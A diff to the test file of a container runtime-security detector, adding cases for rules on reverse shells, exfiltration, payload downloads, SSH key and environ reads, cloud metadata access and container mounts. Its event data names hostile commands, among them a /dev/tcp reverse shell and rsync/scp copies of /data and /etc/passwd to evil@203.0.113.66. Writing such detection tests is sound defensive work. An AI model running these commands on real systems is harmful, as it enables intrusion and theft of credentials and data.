@@ -154,6 +154,23 @@ def connect(
     return e
 
 
+def udp_connect(name: str, raddr: str, rport: int, result: int = 0, **kw: object) -> Event:
+    e = connect(name, raddr, rport, **kw)  # type: ignore[arg-type]
+    e.network_connection.protocol = network_details_pb2.TRANSPORT_PROTOCOL_UDP
+    e.network_connection.result = result
+    return e
+
+
+def with_result(e: Event, result: int) -> Event:
+    e.network_connection.result = result
+    return e
+
+
+def with_family(e: Event, family: int) -> Event:
+    e.network_connection.family = family  # type: ignore[assignment]
+    return e
+
+
 def socket(family: int, name: str = "sniffer", exe: str | None = None) -> Event:
     e = ev(name, exe)
     e.socket_create.family = family  # type: ignore[assignment]
@@ -288,6 +305,19 @@ NS = process_details_pb2
 YEAR = 365 * 86400
 
 
+def created(path: str, name: str = "touch", **kw: object) -> Event:
+    e = opened(path, name, write=True, **kw)  # type: ignore[arg-type]
+    e.file_access.flags = 0o1 | 0o100  # O_WRONLY | O_CREAT
+    return e
+
+
+def capable(caps: Sequence[str], everything: bool = False, **kw: object) -> Event:
+    e = exec_("nginx", container=CID, ancestors=RUNTIME, **kw)  # type: ignore[arg-type]
+    e.process_exec.effective_capabilities.extend(caps)
+    e.process_exec.all_capabilities = everything
+    return e
+
+
 def killed(check: str = "memfd_exec", dry_run: bool = False) -> Event:
     e = ev("memfd:x", "/memfd:x (deleted)")
     e.enforcement.action = NS.ENFORCEMENT_ACTION_KILL
@@ -299,6 +329,7 @@ def killed(check: str = "memfd_exec", dry_run: bool = False) -> Event:
 
 DPKG = (("dpkg", "/usr/bin/dpkg"), ("apt-get", "/usr/bin/apt-get"))
 CID = "a" * 64
+RUNTIME = (("containerd-shim", "/usr/bin/containerd-shim-runc-v2"), ("systemd", "/sbin/init"))
 
 # rule id -> (events that must fire it, events that must not)
 CASES: dict[str, tuple[list[Event], list[Event]]] = {
@@ -614,6 +645,40 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
             opened("/sys/fs/cgroup/x/release_agent", "cat"),
         ],
     ),
+    "alpha.dev_file_created": (
+        [created("/dev/.hidden"), created("/dev/sdz", name="evil")],
+        [
+            created("/dev/shm/x"),  # its own rules
+            created("/dev/stdout", name="tee"),
+            created("/dev/.udev", name="systemd-udevd", exe="/usr/lib/systemd/systemd-udevd"),
+            opened("/dev/.hidden", "cat"),  # a read
+        ],
+    ),
+    "alpha.environ_read": (
+        [opened("/proc/1/environ", "cat"), opened("/proc/4000/environ", "python3")],
+        [opened("/proc/self/environ", "cat"), opened("/proc/1/environ", "ps", exe="/usr/bin/ps")],
+    ),
+    "alpha.ssh_information_read": (
+        [opened("/home/alice/.ssh/id_ed25519", "cat"), opened("/root/.ssh/known_hosts", "grep")],
+        [
+            opened("/home/alice/.ssh/id_ed25519", "ssh", exe="/usr/bin/ssh"),
+            opened("/home/alice/.bashrc", "cat"),
+        ],
+    ),
+    "alpha.privileged_container": (
+        [capable(["CAP_SYS_ADMIN", "CAP_NET_ADMIN"], everything=True)],
+        [
+            capable(["CAP_CHOWN", "CAP_NET_BIND_SERVICE"]),
+            exec_("nginx", ancestors=RUNTIME),  # no container
+        ],
+    ),
+    "alpha.capable_container": (
+        [capable(["CAP_CHOWN", "CAP_SYS_PTRACE"]), capable(["CAP_NET_ADMIN"])],
+        [
+            capable(["CAP_CHOWN", "CAP_NET_BIND_SERVICE", "CAP_KILL"]),  # Docker's defaults
+            capable(["CAP_SYS_ADMIN"], everything=True),  # privileged: its own rule
+        ],
+    ),
     "alpha.process_killed": (
         [killed(), killed("socket_stdio_exec", dry_run=True)],
         [vm_write()],
@@ -785,6 +850,158 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
     "alpha.login_new_source": (
         [login(OK, new_source=True)],
         [login(OK), login(FAIL, new_source=True)],
+    ),
+    # 45_falco_parity.yaml
+    "alpha.system_procs_network_activity": (
+        [
+            connect("bash", "203.0.113.66", 4444),  # bash -c 'sh -i >& /dev/tcp/...'
+            connect("sh", "2001:db8::66", 443, container=CID),
+            with_result(connect("cat", "198.51.100.7", 80), -115),  # non-blocking, in progress
+            connect("passwd", "198.51.100.7", 389),
+            udp_connect("bash", "203.0.113.66", 9999),  # /dev/udp
+        ],
+        [
+            connect("bash", "127.0.0.1", 5432),  # wait-for-it on localhost
+            connect("bash", "::1", 5432),
+            connect("curl", "203.0.113.66", 443),  # a network client
+            udp_connect("id", "10.0.0.53", 53),  # NSS resolving a name
+            with_result(connect("bash", "203.0.113.66", 4444), -111),  # refused
+            with_family(connect("ls", "", 0), NT.ADDRESS_FAMILY_UNIX),  # nscd, sssd socket
+            connect("bash", "0.0.0.0", 8080, NT.CONNECTION_OPERATION_LISTEN),
+        ],
+    ),
+    "alpha.unexpected_udp_traffic": (
+        [
+            udp_connect("implant", "203.0.113.66", 31337),
+            udp_connect("python3", "2001:db8::66", 6000, container=CID),
+            udp_connect("iodine", "198.51.100.7", 5300),
+        ],
+        [
+            udp_connect("systemd-resolve", "10.0.0.53", 53),
+            udp_connect("chronyd", "162.159.200.1", 123),
+            udp_connect("chrome", "142.250.74.100", 443),  # QUIC
+            udp_connect("wg", "198.51.100.7", 51820),
+            udp_connect("implant", "127.0.0.1", 31337),
+            udp_connect("curl", "203.0.113.66", 0),  # getaddrinfo's address sorting
+            connect("implant", "203.0.113.66", 31337),  # TCP
+            udp_connect("implant", "203.0.113.66", 31337, result=-101),  # unreachable
+        ],
+    ),
+    "alpha.container_cloud_metadata": (
+        [
+            connect("curl", "169.254.169.254", 80, container=CID),
+            connect("python3", "fd00:ec2::254", 80, container=CID),
+            connect("wget", "100.100.100.200", 80, container=CID),
+            with_result(connect("curl", "169.254.169.254", 80, container=CID), -110),  # timed out
+        ],
+        [
+            connect("cloud-init", "169.254.169.254", 80),  # on the host
+            connect("curl", "169.254.170.2", 80, container=CID),  # ECS task credentials
+            connect("curl", "203.0.113.66", 80, container=CID),
+        ],
+    ),
+    "alpha.container_package_management": (
+        [
+            exec_("apt-get", ["apt-get", "install", "-y", "nmap"], container=CID),
+            exec_("apk", ["apk", "add", "socat"], exe="/sbin/apk", container=CID),
+            exec_("yum", ["yum", "install", "-y", "gcc"], container=CID),
+            exec_("dpkg", ["dpkg", "-i", "/tmp/x.deb"], container=CID),
+            exec_("rpm", ["rpm", "-ivh", "/tmp/x.rpm"], container=CID),
+        ],
+        [
+            exec_("apt-get", ["apt-get", "install", "-y", "nmap"]),  # on the host
+            exec_("dpkg", ["dpkg", "--unpack", "x.deb"], container=CID, ancestors=DPKG[1:]),
+            exec_("dpkg", ["dpkg", "--print-architecture"], container=CID),
+            exec_("rpm", ["rpm", "-qa"], container=CID),
+            exec_("apk", ["apk", "info", "-e", "curl"], exe="/sbin/apk", container=CID),
+            exec_("npm", ["npm", "start"], container=CID),
+        ],
+    ),
+    "alpha.container_remote_file_copy": (
+        [
+            exec_("rsync", ["rsync", "-a", "/data/", "evil@203.0.113.66:/loot/"], container=CID),
+            exec_("scp", ["scp", "/etc/passwd", "evil@203.0.113.66:"], container=CID),
+            exec_("sftp", ["sftp", "evil@203.0.113.66"], container=CID),
+        ],
+        [
+            exec_("rsync", ["rsync", "-a", "/data/", "backup:/srv/"]),  # on the host
+            exec_("cp", ["cp", "-a", "/data/", "/backup/"], container=CID),
+            exec_("ssh", ["ssh", "evil@203.0.113.66"], container=CID),
+        ],
+    ),
+    "alpha.container_ingress_file_copy": (
+        [
+            exec_("wget", ["wget", "http://203.0.113.66/x"], container=CID),
+            exec_("wget", ["wget", "-qO-", "http://203.0.113.66/x.sh"], container=CID),
+            exec_("curl", ["curl", "-o", "/tmp/x", "http://203.0.113.66/x"], container=CID),
+            exec_("curl", ["curl", "-fsSLo", "/tmp/x", "http://203.0.113.66/x"], container=CID),
+            exec_("curl", ["curl", "-LO", "http://203.0.113.66/xmrig"], container=CID),
+            exec_("curl", ["curl", "--output", "x", "http://203.0.113.66/x"], container=CID),
+            exec_("curl", ["curl", "--remote-name", "http://203.0.113.66/x"], container=CID),
+            exec_("curl", ["curl", "-o/tmp/x", "http://203.0.113.66/x"], container=CID),
+        ],
+        [
+            exec_("wget", ["wget", "http://203.0.113.66/x"]),  # on the host
+            exec_("curl", ["curl", "-fsSL", "http://203.0.113.66/x"], container=CID),  # stdout
+            exec_("curl", ["curl", "-XPOST", "http://api:8080/v1"], container=CID),
+            exec_("curl", ["curl", "-uroot:pw", "http://api:8080/"], container=CID),
+            exec_("curl", ["curl", "--location", "http://api:8080/"], container=CID),
+            exec_(
+                "curl",
+                ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://localhost/"],
+                container=CID,
+            ),
+            exec_("wget", ["wget", "-q", "--spider", "http://localhost/health"], container=CID),
+            exec_("wget", ["wget", "-qO", "/dev/null", "http://localhost/health"], container=CID),
+        ],
+    ),
+    "alpha.kubectl_cp": (
+        [
+            exec_(
+                "tar", ["tar", "cf", "-", "/var/lib/app"], tty="", container=CID, ancestors=RUNTIME
+            ),
+            exec_(
+                "tar",
+                ["tar", "cf", "-", "secrets"],
+                tty="",
+                container=CID,
+                ancestors=(("runc:[2:INIT]", "/usr/bin/runc"), ("runc", "/usr/bin/runc")),
+            ),
+            exec_("tar", ["tar", "-xmf", "-"], tty="", container=CID, ancestors=(("crun", ""),)),
+        ],
+        [
+            exec_("tar", ["tar", "cf", "-", "/data"], tty="", ancestors=RUNTIME),  # host
+            exec_("tar", ["tar", "cf", "-", "/data"], tty="", container=CID),  # below bash
+            exec_(
+                "tar",
+                ["tar", "cf", "x.tar", "/data"],
+                tty="pts/0",
+                container=CID,
+                ancestors=RUNTIME,
+            ),
+            exec_("cat", ["cat", "/etc/passwd"], tty="", container=CID, ancestors=RUNTIME),
+        ],
+    ),
+    "alpha.container_debugfs": (
+        [exec_("debugfs", ["debugfs", "/dev/sda1"], exe="/sbin/debugfs", container=CID)],
+        [
+            exec_("debugfs", ["debugfs", "/dev/sda1"], exe="/sbin/debugfs"),
+            exec_("fsck", ["fsck", "/dev/sda1"], container=CID),
+        ],
+    ),
+    "alpha.container_mount": (
+        [
+            exec_("mount", ["mount", "/dev/sda1", "/mnt"], exe="/bin/mount", container=CID),
+            exec_(
+                "mount", ["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/c"], container=CID
+            ),
+        ],
+        [
+            exec_("mount", ["mount"], exe="/bin/mount", container=CID),  # a listing
+            exec_("mount", ["mount", "-l"], exe="/bin/mount", container=CID),
+            exec_("mount", ["mount", "/dev/sdb1", "/mnt"], exe="/bin/mount"),  # on the host
+            exec_("umount", ["umount", "/mnt"], container=CID),
+        ],
     ),
 }
 _blocked = connect("curl", "203.0.113.66", 443)
